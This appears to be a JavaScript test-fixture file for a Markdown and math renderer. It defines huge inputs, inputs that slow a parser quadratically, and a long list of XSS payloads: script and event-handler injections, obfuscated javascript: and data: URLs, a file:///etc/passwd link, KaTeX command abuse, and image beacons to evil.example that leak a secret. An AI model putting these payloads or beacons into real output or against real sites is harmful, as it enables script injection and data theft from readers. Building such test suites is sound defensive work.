/** Texts that a model might write, or somebody who wants to harm its reader. */

const times = (count, make) => Array.from({ length: count }, (_, i) => make(i)).join('');

const part = (i) => `## Part ${i}

Some **prose** about number ${i}, with \`code\`, a [link](https://x.example/${i}) and *more* of it, long enough to be broken.

- one
- two
  - three

| a | b |
|---|---|
| ${i} | x |

\`\`\`js
const x${i} = ${i}; // comment
function f() { return "x"; }
\`\`\`

`;

/** A megabyte each. */
export const LONG = {
  'a bit of everything': times(3_400, part),
  'one code block': `\`\`\`js\n${times(31_250, () => 'const abc = 1; // and a comment\n')}\`\`\`\n`,
  'one list': times(19_500, (i) => `- item number ${i} with *some* words and \`code\`\n`),
  'one table': `| a | b | c |\n|---|---|---|\n${times(28_000, () => '| cell one | cell **two** | three |\n')}`,
  'one paragraph of lines': times(66_000, () => 'a line of text\n'),
  'one line': times(112_000, () => 'word and '),
  'one word': 'a'.repeat(1_000_000),
};

/** What takes a careless parser time that grows with the square of the length, or faster. */
export const SLOW = Object.fromEntries(
  Object.entries({
    'spaces after a heading': () => `# a${' '.repeat(100_000)}b`,
    'spaces at the end of a heading': () => `# a${' '.repeat(100_000)}`,
    'hashes after a heading': () => `# a ${'#'.repeat(100_000)}`,
    'code spans that never end': () => times(400, (i) => `${'`'.repeat(i + 1)} `),
    'code spans': () => '`a '.repeat(30_000),
    'fences': () => '```\n'.repeat(25_000),
    'fences with something behind': () => 'a\n``` `\n'.repeat(11_000),
    'tildes': () => '~~~ a\n'.repeat(16_000),
    'emphasis that never ends': () => '*a '.repeat(33_000),
    'emphasis of two kinds': () => '*a_ '.repeat(25_000),
    'emphasis in emphasis': () => '**a*'.repeat(25_000),
    'stars': () => `a${'*'.repeat(100_000)}b`,
    'strikethrough': () => '~~a '.repeat(25_000),
    'brackets': () => '['.repeat(100_000),
    'nested brackets': () => '['.repeat(50_000) + ']'.repeat(50_000),
    'links that never end': () => '[a](<b'.repeat(15_000),
    'links without an address': () => '[a]('.repeat(25_000),
    'pictures in pictures': () => '![[]()'.repeat(16_000),
    'parentheses in an address': () => `[a](${'('.repeat(100_000)}`,
    'quotations in quotations': () => `${'> '.repeat(50_000)}a`,
    'lists in lists': () => `${'- '.repeat(50_000)}a`,
    'lists that go deeper': () => times(400, (i) => `${' '.repeat(i)}- a\n`),
    'empty items': () => '1. \n  '.repeat(16_000),
    'quotations and lists': () => `${'> - '.repeat(25_000)}a`,
    'a table of many columns': () => `${'|'.repeat(300)}\n${'|-'.repeat(299)}|\n${'a\n'.repeat(20_000)}`,
    'tables': () => 'a|b\n-|-\n'.repeat(12_000),
    'pipes': () => '|'.repeat(100_000),
    'addresses': () => 'http://'.repeat(14_000),
    'an address of parentheses': () => `http://a.b/${'a)'.repeat(50_000)}`,
    'mail': () => `${'a'.repeat(100_000)}@b.example`,
    'angles': () => '<a '.repeat(33_000),
    'comments': () => '<!--'.repeat(25_000),
    'entities': () => '&#'.repeat(50_000),
    'backslashes': () => '\\'.repeat(100_000),
    'blank lines': () => '\n'.repeat(100_000),
    'spaces': () => ' '.repeat(100_000),
    'tabs': () => `${'\t'.repeat(100_000)}a`,
    'rules that are none': () => `${'* '.repeat(50_000)}a`,
    'dollars': () => '$a '.repeat(33_000),
    'formulas': () => '$a$ '.repeat(2_500),
    'formulas that never end': () => '\\(a '.repeat(25_000),
    'a formula that repeats itself': () => '$\\def\\a{\\b\\b}\\def\\b{\\c\\c}\\def\\c{\\d\\d}\\def\\d{\\a\\a}\\a$ ',
    'a deep formula': () => `$${'{'.repeat(900)}x${'}'.repeat(900)}$`,
    'fractions in fractions': () => `$$\n${'\\frac{a}{'.repeat(300)}x${'}'.repeat(300)}\n$$`,
    'code for the highlighter': () => `\`\`\`js\n${'a("'.repeat(5_000)}\n\`\`\`\n\`\`\`xml\n${'<a '.repeat(6_000)}\n\`\`\`\n`,
    'no line ends': () => '\r'.repeat(50_000),
  }).map(([name, make]) => [name, make()]),
);

const CODE = 'window.pwned=1';
const urls = [
  `javascript:${CODE}`, `JaVaScRiPt:${CODE}`, ` javascript:${CODE}`, `java\tscript:${CODE}`, `java&#10;script:${CODE}`, `&#106;avascript:${CODE}`,
  `javascript&colon;${CODE}`, `vbscript:${CODE}`, `data:text/html,<script>opener.pwned=1</script>`, 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  `\u0001javascript:${CODE}`, `javascript://x%0a${CODE}`, 'file:///etc/passwd', 'blob:x', 'filesystem:x', `view-source:x`, '//evil.example', 'about:blank',
];

/** What tries to run code, to load something, or to look like a part of the page. */
export const HOSTILE = [
  `<script>${CODE}</script>`, `<img src=x onerror=${CODE}>`, `<svg onload=${CODE}>`, `<svg><script>${CODE}</script></svg>`, `<iframe srcdoc="<script>parent.pwned=1</script>">`,
  `<details open ontoggle=${CODE}>`, `<math><mtext><table><mglyph><style><img src=x onerror=${CODE}>`, `<a href="javascript:${CODE}">a</a>`, `<base href=//evil.example>`,
  `<style>*{background:url(//evil.example)}</style>`, `<link rel=stylesheet href=//evil.example>`, `<meta http-equiv=refresh content=0;url=//evil.example>`, `<form action=//evil.example><input name=x>`,
  `<object data=//evil.example>`, `<embed src=//evil.example>`, `<video src=//evil.example>`, `<input autofocus onfocus=${CODE}>`, `<b style=position:fixed;inset:0>`, `<!--><img src=x onerror=${CODE}>-->`,
  ...urls.flatMap((url) => [`[a](${url})`, `[a](<${url}>)`, `![a](${url})`, `<${url}>`, `[a][b]\n\n[b]: ${url}`, `[![a](${url})](${url})`]),
  `[a](https://x.example "t\\" onmouseover=\\"${CODE}")`, `[a](https://x.example/"onclick="${CODE})`, `![a](https://evil.example/?q=secret)`, `[a](https://x.example/<script>${CODE}</script>)`,
  `\`<img src=x onerror=${CODE}>\``, `\`\`\`"><img src=x onerror=${CODE}>\n<script>${CODE}</script>\n\`\`\``, `\`\`\`html\n<img src=x onerror=${CODE}>\n\`\`\``, `\`\`\`js" onload="${CODE}\nx\n\`\`\``,
  `|<img src=x onerror=${CODE}>|b|\n|:-:|"onclick=${CODE}|\n|<script>${CODE}</script>|c|`, `- [x] <img src=x onerror=${CODE}>`, `<br onclick=${CODE}>`, `<br/><script>${CODE}</script>`,
  `$\\href{javascript:${CODE}}{x}$`, `$\\url{javascript:${CODE}}$`, `$\\includegraphics{https://evil.example/x.png}$`, `$\\htmlStyle{position:fixed;inset:0}{x}$`, `$\\htmlClass{copy}{x}$`, `$\\htmlData{do=delete}{x}$`, `$\\htmlId{prompt}{x}$`,
  `$\\text{<img src=x onerror=${CODE}>}$`, `$\\unicode{x}<script>${CODE}</script>$`, `$\\rule{100000em}{100000em}$`, `$\\kern{-9999em}x$`, `$\\raisebox{9999em}{x}$`, `$\\color{red;background:url(//evil.example)}x$`, `$\\textcolor{"onclick=${CODE}}{x}$`,
  `$$\n<script>${CODE}</script>\n$$`, `\\[ <img src=x onerror=${CODE}> \\]`, `&lt;script&gt;${CODE}&lt;/script&gt;`, `&#60;img src=x onerror=${CODE}&#62;`, `\u202e<script>${CODE}</script>`, `<scr\u0000ipt>${CODE}</script>`,
  `<img src="https://evil.example/?q=secret">`, `![](https://evil.example/pixel.gif)`, `<link rel=prefetch href=https://evil.example>`, `[a](https://x.example)<img src=x onerror=${CODE}>`,
];
